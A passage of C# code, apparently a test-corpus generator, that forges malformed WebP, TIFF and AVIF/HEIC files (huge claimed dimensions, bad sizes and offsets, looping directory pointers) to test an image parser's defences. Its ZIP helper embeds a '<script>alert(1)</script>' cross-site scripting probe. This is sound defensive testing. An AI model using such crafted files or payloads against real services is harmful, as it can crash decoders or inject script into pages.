        bytes = Cat(bytes[..(bytes.Length - dropBytes)], new byte[extraBytes]);
        using var output = new MemoryStream();
        using (var deflater = new ZLibStream(output, CompressionLevel.Fastest, leaveOpen: true)) deflater.Write(bytes);
        return Cat(f[..idats[0].Start], PngChunk("IDAT", output.ToArray()), f[idats[^1].End..]);
    }

    private static byte[] Deflate(byte[] data)
    {
        using var output = new MemoryStream();
        using (var deflater = new ZLibStream(output, CompressionLevel.SmallestSize, leaveOpen: true)) deflater.Write(data);
        return output.ToArray();
    }

    // ---------------------------------------------------------------- WebP

    private static void WebP(Builder list, Sample sample)
    {
        var f = sample.Bytes;
        var chunk = Encoding.ASCII.GetString(f, 12, 4);
        var chunkSize = (int)BinaryPrimitives.ReadUInt32LittleEndian(f.AsSpan(16));
        int w = sample.Width, h = sample.Height;

        foreach (var (value, what) in new (uint, string)[]
        {
            (0, "0"), (4, "4"), (0xFFFFFFFF, "0xFFFFFFFF"), ((uint)f.Length - 8 - 16, "16 bytes less than the file"), ((uint)f.Length - 8 + 1, "one more than the file"),
        })
        {
            list.Add(ForgedField, $"RIFF size {what}", Patch(f, g => BinaryPrimitives.WriteUInt32LittleEndian(g.AsSpan(4), value)));
        }
        foreach (var (value, what) in new (uint, string)[]
        {
            (0, "0"), (0xFFFFFFFF, "0xFFFFFFFF"), ((uint)chunkSize + 2, "two more than stored"), ((uint)chunkSize - 2, "two less than stored"), (1, "1"),
        })
        {
            list.Add(ForgedField, $"'{chunk}' chunk size {what}", Patch(f, g => BinaryPrimitives.WriteUInt32LittleEndian(g.AsSpan(16), value)));
        }
        foreach (var other in new[] { "VP8 ", "VP8L", "VP8X", "ALPH", "ANMF" }.Where(t => t != chunk))
            list.Add(Structure, $"'{chunk}' chunk renamed '{other}'", Patch(f, g => Encoding.ASCII.GetBytes(other).CopyTo(g, 12)));

        if (chunk == "VP8 ")
        {
            foreach (var (fw, fh, why) in new (int, int, string)[]
            {
                (16383, 16383, "the VP8 maximum"), (0, 0, "zero"), (1, 1, "one pixel"), (w * 2, h * 2, "twice the coded size"),
                (w | 0xC000, h | 0xC000, "upscaling bits set"), (w + 1, h, "one column more"),
            })
            {
                list.Add(ForgedDimensions, $"VP8 frame header says {fw & 0x3FFF}×{fh & 0x3FFF} ({why})", Patch(f, g =>
                {
                    BinaryPrimitives.WriteUInt16LittleEndian(g.AsSpan(26), (ushort)fw);
                    BinaryPrimitives.WriteUInt16LittleEndian(g.AsSpan(28), (ushort)fh);
                }));
            }
            list.Add(ForgedField, "VP8 start code broken", Patch(f, g => g[23] = 0x00));
            list.Add(ForgedField, "VP8 first partition size 0x7FFFF", Patch(f, g =>
            {
                var tag = g[20] | (g[21] << 8) | (g[22] << 16);
                tag = (tag & 0x1F) | (0x7FFFF << 5);
                g[20] = (byte)tag;
                g[21] = (byte)(tag >> 8);
                g[22] = (byte)(tag >> 16);
            }));
            list.Add(ForgedField, "VP8 frame marked as an inter (non-key) frame", Patch(f, g => g[20] |= 0x01));
            list.Add(ForgedField, "VP8 version 7", Patch(f, g => g[20] = (byte)((g[20] & 0xF1) | (7 << 1))));
        }
        else if (chunk == "VP8L")
        {
            foreach (var (fw, fh, why) in new (int, int, string)[]
            {
                (16384, 16384, "the VP8L maximum"), (1, 1, "one pixel"), (w * 2, h * 2, "twice the coded size"), (w, h + 1, "one row more"),
            })
            {
                list.Add(ForgedDimensions, $"VP8L header says {fw}×{fh} ({why})", Patch(f, g =>
                {
                    var bits = BinaryPrimitives.ReadUInt32LittleEndian(g.AsSpan(21));
                    bits = (bits & 0xF000_0000) | (uint)(fw - 1) | ((uint)(fh - 1) << 14);
                    BinaryPrimitives.WriteUInt32LittleEndian(g.AsSpan(21), bits);
                }));
            }
            list.Add(ForgedField, "VP8L signature broken", Patch(f, g => g[20] = 0x2E));
            list.Add(ForgedField, "VP8L version 7", Patch(f, g => g[24] |= 0xE0));
        }

        // An extended header in front of the real one, claiming a different canvas and features.
        foreach (var (flags, cw, ch, what) in new (byte, int, int, string)[]
        {
            (0x00, 16384, 16384, "a 16384×16384 canvas"), (0x10, w, h, "alpha"), (0x20, w, h, "an ICC profile it lacks"),
            (0x02, w, h, "animation"), (0x00, w * 2, h / 2, "a different canvas shape"),
        })
        {
            var vp8x = new byte[18];
            "VP8X"u8.CopyTo(vp8x);
            BinaryPrimitives.WriteUInt32LittleEndian(vp8x.AsSpan(4), 10);
            vp8x[8] = flags;
            WriteUInt24(vp8x, 12, cw - 1);
            WriteUInt24(vp8x, 15, ch - 1);
            var body = Cat(vp8x, f[12..]);
            list.Add(Structure, $"VP8X header claiming {what} inserted", Cat(Riff(body.Length + 4), body));
        }
        list.Add(Structure, "picture chunk duplicated", Cat(Riff(4 + 2 * (f.Length - 12)), f[12..], f[12..]));
    }

    private static void WriteUInt24(byte[] b, int at, int value)
    {
        b[at] = (byte)value;
        b[at + 1] = (byte)(value >> 8);
        b[at + 2] = (byte)(value >> 16);
    }

    /// <summary>"RIFF" + size + "WEBP"; <paramref name="size"/> counts from "WEBP" on.</summary>
    private static byte[] Riff(int size)
    {
        var header = new byte[12];
        "RIFF"u8.CopyTo(header);
        BinaryPrimitives.WriteInt32LittleEndian(header.AsSpan(4), size);
        "WEBP"u8.CopyTo(header.AsSpan(8));
        return header;
    }

    // ---------------------------------------------------------------- TIFF

    /// <summary>One image file directory: where it is, its entries, and the byte order for reading/writing values.</summary>
    private sealed class TiffIfd
    {
        private readonly bool _little;
        private readonly int _tiffStart;

        private TiffIfd(bool little, int tiffStart, int offset, int count)
        {
            _little = little;
            _tiffStart = tiffStart;
            Offset = offset;
            Count = count;
        }

        /// <summary>Absolute offset of the entry count.</summary>
        public int Offset { get; }

        public int Count { get; }

        /// <summary>Just past the next-IFD pointer.</summary>
        public int End => Offset + 2 + 12 * Count + 4;

        public List<(ushort Tag, ushort Type, uint Count, uint Value, int Entry)> Entries { get; } = [];

        public static TiffIfd Read(byte[] f, int tiffStart, int? relativeOffset = null)
        {
            var little = f[tiffStart] == (byte)'I';
            var probe = new TiffIfd(little, tiffStart, 0, 0);
            var offset = tiffStart + (relativeOffset ?? (int)probe.ReadLong(f, tiffStart + 4));
            var count = probe.ReadShort(f, offset);
            var ifd = new TiffIfd(little, tiffStart, offset, count);
            for (var i = 0; i < count; i++)
            {
                var entry = offset + 2 + 12 * i;
                ifd.Entries.Add((ifd.ReadShort(f, entry), ifd.ReadShort(f, entry + 2), ifd.ReadLong(f, entry + 4), ifd.ReadLong(f, entry + 8), entry));
            }
            return ifd;
        }

        public int? Find(ushort tag) => Entries.Where(e => e.Tag == tag).Select(e => (int?)e.Entry).FirstOrDefault();

        /// <summary>Ranges holding values too big for their entry (e.g. BitsPerSample's three shorts, strip tables).</summary>
        public IEnumerable<(int Start, int End)> OutOfLineValues()
        {
            foreach (var e in Entries)
            {
                var size = e.Type switch { 3 => 2, 4 => 4, 5 => 8, _ => 1 } * (long)e.Count;
                if (size > 4 && size < 4096) yield return (_tiffStart + (int)e.Value, _tiffStart + (int)(e.Value + size));
            }
        }

        public ushort ReadShort(byte[] f, int at) =>
            _little ? BinaryPrimitives.ReadUInt16LittleEndian(f.AsSpan(at)) : BinaryPrimitives.ReadUInt16BigEndian(f.AsSpan(at));

        public uint ReadLong(byte[] f, int at) =>
            _little ? BinaryPrimitives.ReadUInt32LittleEndian(f.AsSpan(at)) : BinaryPrimitives.ReadUInt32BigEndian(f.AsSpan(at));

        public void WriteShort(byte[] f, int at, ushort value)
        {
            if (_little) BinaryPrimitives.WriteUInt16LittleEndian(f.AsSpan(at), value);
            else BinaryPrimitives.WriteUInt16BigEndian(f.AsSpan(at), value);
        }

        public void WriteLong(byte[] f, int at, uint value)
        {
            if (_little) BinaryPrimitives.WriteUInt32LittleEndian(f.AsSpan(at), value);
            else BinaryPrimitives.WriteUInt32BigEndian(f.AsSpan(at), value);
        }

        /// <summary>Sets a tag to one value stored in the entry itself (as a LONG, so any value fits).</summary>
        public void SetSingle(byte[] f, ushort tag, uint value)
        {
            var entry = Find(tag) ?? throw new InvalidDataException($"TIFF tag {tag} not present.");
            WriteShort(f, entry + 2, 4);
            WriteLong(f, entry + 4, 1);
            WriteLong(f, entry + 8, value);
        }
    }

    private static void Tiff(Builder list, Sample sample)
    {
        var f = sample.Bytes;
        var ifd = TiffIfd.Read(f, 0);
        int w = sample.Width, h = sample.Height;
        byte[] Set(params (ushort Tag, uint Value)[] tags) => Patch(f, g =>
        {
            foreach (var (tag, value) in tags) ifd.SetSingle(g, tag, value);
        });

        foreach (var (fw, fh, why) in new (uint, uint, string)[]
        {
            (65535, 65535, "4.3 gigapixels"), (10000, 10000, "exactly the 100-megapixel limit"), ((uint)w * 2, (uint)h * 2, "twice the stored size"),
            ((uint)w, (uint)h * 100, "a hundred times taller"), (1, 1, "one pixel"), (0, (uint)h, "zero width"), (0x7FFFFFFF, 1, "2^31 - 1 wide"),
        })
        {
            list.Add(ForgedDimensions, $"ImageWidth × ImageLength = {fw}×{fh} ({why})", Set((256, fw), (257, fh)));
        }

        foreach (var (tag, value, what) in new (ushort, uint, string)[]
        {
            (258, 0, "BitsPerSample 0"), (258, 64, "BitsPerSample 64"), (258, 3, "BitsPerSample 3"), (258, 16, "BitsPerSample 16 (one value)"),
            (277, 0, "SamplesPerPixel 0"), (277, 255, "SamplesPerPixel 255"), (277, 1, "SamplesPerPixel 1"), (277, 4, "SamplesPerPixel 4"),
            (259, 7, "Compression JPEG"), (259, 8, "Compression Deflate"), (259, 32773, "Compression PackBits"), (259, 34712, "Compression JPEG 2000"),
            (259, 0xFFFF, "Compression 65535"), (259, 1, "Compression none"), (262, 5, "Photometric CMYK"), (262, 6, "Photometric YCbCr"),
            (262, 8, "Photometric CIELab"), (262, 32844, "Photometric LogL"), (262, 3, "Photometric palette without a colour map"), (262, 99, "Photometric 99"),
            (284, 2, "PlanarConfiguration separate"), (278, 0, "RowsPerStrip 0"), (278, 1, "RowsPerStrip 1"), (278, 0xFFFFFFFF, "RowsPerStrip 2^32 - 1"),
            (273, (uint)f.Length + 1000, "StripOffsets past the end"), (273, 0, "StripOffsets 0"), (279, 0, "StripByteCounts 0"),
            (279, 0x7FFFFFFF, "StripByteCounts 2 GB"),
        })
        {
            if (ifd.Find(tag) is not null) list.Add(ForgedField, $"{what}", Set((tag, value)));
        }

        list.Add(ForgedField, "IFD entry count 0", Patch(f, g => ifd.WriteShort(g, ifd.Offset, 0)));
        list.Add(ForgedField, "IFD entry count 1", Patch(f, g => ifd.WriteShort(g, ifd.Offset, 1)));
        list.Add(ForgedField, "IFD entry count 0xFFFF", Patch(f, g => ifd.WriteShort(g, ifd.Offset, 0xFFFF)));
        list.Add(ForgedField, "next-IFD pointer loops to IFD0", Patch(f, g => ifd.WriteLong(g, ifd.End - 4, (uint)ifd.Offset)));
        list.Add(ForgedField, "next-IFD pointer past the end", Patch(f, g => ifd.WriteLong(g, ifd.End - 4, 0x7FFFFFF0)));
        list.Add(ForgedField, "next-IFD pointer into the header", Patch(f, g => ifd.WriteLong(g, ifd.End - 4, 2)));
        list.Add(ForgedField, "first IFD offset 0", Patch(f, g => ifd.WriteLong(g, 4, 0)));
        list.Add(ForgedField, "first IFD offset past the end", Patch(f, g => ifd.WriteLong(g, 4, (uint)f.Length + 100)));
        list.Add(ForgedField, "first IFD offset 4 (inside the header)", Patch(f, g => ifd.WriteLong(g, 4, 4)));
        list.Add(ForgedField, "first IFD offset 2 bytes before the end", Patch(f, g => ifd.WriteLong(g, 4, (uint)f.Length - 2)));
        list.Add(ForgedField, "byte order marker changed to big-endian", Patch(f, g => "MM\0*"u8.CopyTo(g)));
        var widthEntry = ifd.Find(256)!.Value;
        list.Add(ForgedField, "ImageWidth type 0 (invalid)", Patch(f, g => ifd.WriteShort(g, widthEntry + 2, 0)));
        list.Add(ForgedField, "ImageWidth type 13 (IFD)", Patch(f, g => ifd.WriteShort(g, widthEntry + 2, 13)));
        var strips = ifd.Find(273)!.Value;
        list.Add(ForgedField, "StripOffsets count 0x3FFFFFFF", Patch(f, g => ifd.WriteLong(g, strips + 4, 0x3FFFFFFF)));
        list.Add(ForgedField, "StripOffsets count 0", Patch(f, g => ifd.WriteLong(g, strips + 4, 0)));
        if (ifd.Find(258) is { } bits && ifd.Entries.First(e => e.Entry == bits).Count > 1)
            list.Add(ForgedField, "BitsPerSample values pointer past the end", Patch(f, g => ifd.WriteLong(g, bits + 8, 0x7FFFFFF0)));
        if (ifd.Find(347) is { } tables)
        {
            list.Add(ForgedField, "JPEGTables pointer past the end", Patch(f, g => ifd.WriteLong(g, tables + 8, 0x7FFFFFF0)));
            list.Add(ForgedField, "JPEGTables count 0x7FFFFFFF", Patch(f, g => ifd.WriteLong(g, tables + 4, 0x7FFFFFFF)));
        }

        list.Add(Structure, "first two IFD entries swapped (tags out of order)", Patch(f, g =>
        {
            var a = g[(ifd.Offset + 2)..(ifd.Offset + 14)];
            g.AsSpan(ifd.Offset + 14, 12).CopyTo(g.AsSpan(ifd.Offset + 2));
            a.CopyTo(g, ifd.Offset + 14);
        }));
        list.Add(Structure, "ImageWidth entry duplicated over the next entry", Patch(f, g => g.AsSpan(widthEntry, 12).CopyTo(g.AsSpan(widthEntry + 12))));
        list.Add(Structure, "second IFD appended claiming 60000×60000", AppendSecondIfd(f, ifd, 60000, 60000));
    }

    /// <summary>Appends a copy of IFD0 with forged dimensions and links it as the next IFD (a second page).</summary>
    private static byte[] AppendSecondIfd(byte[] f, TiffIfd ifd, uint width, uint height)
    {
        var copy = f[ifd.Offset..ifd.End];
        var result = Cat(f, copy);
        var at = f.Length;
        ifd.WriteLong(result, ifd.End - 4, (uint)at);
        var second = TiffIfd.Read(result, 0, at);
        second.SetSingle(result, 256, width);
        second.SetSingle(result, 257, height);
        second.WriteLong(result, second.End - 4, 0);
        return result;
    }

    // ---------------------------------------------------------------- AVIF / HEIC (ISO base media)

    private static readonly string[] IsoContainers = ["meta", "iprp", "ipco"];

    private static IEnumerable<(IsoBmff.Box Box, string Path)> IsoBoxes(byte[] f)
    {
        IEnumerable<(IsoBmff.Box, string)> Walk(int start, int end, string parent)
        {
            foreach (var box in IsoBmff.Children(f, start, end))
            {
                var path = parent.Length == 0 ? box.Type : $"{parent}/{box.Type}";
                yield return (box, path);
                if (IsoContainers.Contains(box.Type))
                {
                    foreach (var child in Walk(box.Body + (box.Type == "meta" ? 4 : 0), box.End, path)) yield return child;
                }
            }
        }
        return Walk(0, f.Length, "").ToList();
    }

    private static void IsoMedia(Builder list, Sample sample, int seed)
    {
        var f = sample.Bytes;
        var boxes = IsoBoxes(f).ToList();
        var random = new Random(seed);
        var seen = new HashSet<string>();
        foreach (var (box, path) in boxes)
        {
            // Sizes: beyond the file, header only, 64-bit escape, and slightly off either way.
            foreach (var (value, what) in new (uint, string)[]
            {
                (0xFFFFFFFF, "0xFFFFFFFF"), (8, "8 (header only)"), (1, "1 (64-bit size follows)"), ((uint)box.Size + 16, "16 more"), ((uint)box.Size - 1, "one less"),
            })
            {
                if (seen.Add($"{path}:{what}"))
                    list.Add(ForgedField, $"'{path}' box size {what}", Patch(f, g => BinaryPrimitives.WriteUInt32BigEndian(g.AsSpan(box.Start), value)));
            }
            if (box.Type != "mdat" && !IsoContainers.Contains(box.Type))
            {
                for (var i = 0; i < 2 && box.Size > 8; i++)
                {
                    var at = random.Next(box.Body, box.End);
                    var bit = 1 << random.Next(8);
                    list.Add(HeaderBitFlip, $"'{path}' payload byte {at} ^= 0x{bit:X2}", Patch(f, g => g[at] ^= (byte)bit));
                }
                if (seen.Add($"{path}:hidden"))
                    list.Add(Structure, $"'{path}' box hidden (renamed 'free')", Patch(f, g => "free"u8.CopyTo(g.AsSpan(box.Start + 4))));
            }
        }

        var ispe = boxes.Where(b => b.Box.Type == "ispe").Select(b => b.Box).ToList();
        int w = sample.Width, h = sample.Height;
        foreach (var (fw, fh, why) in new (uint, uint, string)[]
        {
            (0, 0, "zero"), (1, 1, "one pixel"), (65535, 65535, "4.3 gigapixels"), (100_000, 100_000, "10 gigapixels"),
            ((uint)w * 2, (uint)h * 2, "twice the coded size"), ((uint)w * 64, (uint)h * 64, "64 times the coded size"), (10000, 10000, "exactly the 100-megapixel limit"),
        })
        {
            list.Add(ForgedDimensions, $"every 'ispe' says {fw}×{fh} ({why})", Patch(f, g =>
            {
                foreach (var box in ispe)
                {
                    BinaryPrimitives.WriteUInt32BigEndian(g.AsSpan(box.Body + 4), fw);
                    BinaryPrimitives.WriteUInt32BigEndian(g.AsSpan(box.Body + 8), fh);
                }
            }));
        }

        var ftyp = boxes.First(b => b.Box.Type == "ftyp").Box;
        foreach (var brand in new[] { "heic", "avif", "mif1", "mp42", "jpeg" })
        {
            if (Encoding.ASCII.GetString(f, ftyp.Body, 4) != brand)
                list.Add(ForgedField, $"major brand '{brand}'", Patch(f, g => Encoding.ASCII.GetBytes(brand).CopyTo(g, ftyp.Body)));
        }
        var pitm = boxes.First(b => b.Box.Type == "pitm").Box;
        list.Add(ForgedField, "primary item id 99 (no such item)", Patch(f, g => BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(pitm.Body + 4), 99)));
        list.Add(ForgedField, "primary item id 0", Patch(f, g => BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(pitm.Body + 4), 0)));
        var ipma = boxes.First(b => b.Box.Type == "ipma").Box;
        list.Add(ForgedField, "ipma entry count 0xFFFFFFFF", Patch(f, g => BinaryPrimitives.WriteUInt32BigEndian(g.AsSpan(ipma.Body + 4), 0xFFFFFFFF)));
        list.Add(ForgedField, "first ipma association points at property 127", Patch(f, g => g[ipma.Body + 4 + 4 + 2 + 1] = 0xFF));
        var iloc = boxes.First(b => b.Box.Type == "iloc").Box;
        list.Add(ForgedField, "iloc item count 0xFFFF", Patch(f, g => BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(iloc.Body + 6), 0xFFFF)));
        list.Add(ForgedField, "iloc field sizes 8/8/8 (misreads every offset)", Patch(f, g =>
        {
            g[iloc.Body + 4] = 0x88;
            g[iloc.Body + 5] = 0x80;
        }));
        if (boxes.FirstOrDefault(b => b.Box.Type == "irot") is { Path: not null } irot)
            list.Add(ForgedField, "irot angle byte 0xFF", Patch(f, g => g[irot.Box.Body] = 0xFF));
        var mdat = boxes.First(b => b.Box.Type == "mdat").Box;
        var meta = boxes.First(b => b.Box.Type == "meta").Box;
        list.Add(Structure, "second 'meta' box appended after 'mdat'", Cat(f, f[meta.Start..meta.End]));
        list.Add(Structure, "'mdat' moved before 'meta' (every iloc offset now wrong)",
            Cat(f[..meta.Start], f[mdat.Start..mdat.End], f[meta.Start..mdat.Start], f[mdat.End..]));
    }

    // ---------------------------------------------------------------- helpers

    private sealed class Builder(Sample sample)
    {
        public List<Mutant> Items { get; } = [];

        public void Add(string kind, string recipe, byte[] bytes) => Items.Add(new Mutant(sample.Name, kind, recipe, bytes));
    }

    private static byte[] Patch(byte[] original, Action<byte[]> change)
    {
        var copy = (byte[])original.Clone();
        change(copy);
        return copy;
    }

    private static void Xor(byte[] bytes, int at, int length, byte key)
    {
        for (var i = at; i < Math.Min(bytes.Length, at + length); i++) bytes[i] ^= key;
    }

    private static byte[] Cat(params byte[][] parts) => TestImages.Concat(parts);

    private static byte[] Repeat(byte[] part, int times) => Enumerable.Repeat(part, times).SelectMany(p => p).ToArray();

    private static byte[] Segment(byte marker, byte[] payload)
    {
        var segment = new byte[4 + payload.Length];
        segment[0] = 0xFF;
        segment[1] = marker;
        BinaryPrimitives.WriteUInt16BigEndian(segment.AsSpan(2), checked((ushort)(payload.Length + 2)));
        payload.CopyTo(segment, 4);
        return segment;
    }

    private static byte[] InsertAfterSoi(byte[] jpeg, byte[] segment) => Cat(jpeg[..2], segment, jpeg[2..]);

    /// <summary>A small ZIP archive with fixed timestamps (so the bytes never change).</summary>
    private static byte[] Zip(params (string Name, byte[] Content)[] files)
    {
        if (files.Length == 0) files = [("readme.txt", "This is not a photo.\n"u8.ToArray()), ("index.html", "<script>alert(1)</script>"u8.ToArray())];
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in files)
            {
                var entry = zip.CreateEntry(name, CompressionLevel.NoCompression);
                entry.LastWriteTime = new DateTimeOffset(2024, 1, 1, 0, 0, 0, TimeSpan.Zero);
                using var stream = entry.Open();
                stream.Write(content);
            }
        }
        return output.ToArray();
    }
}
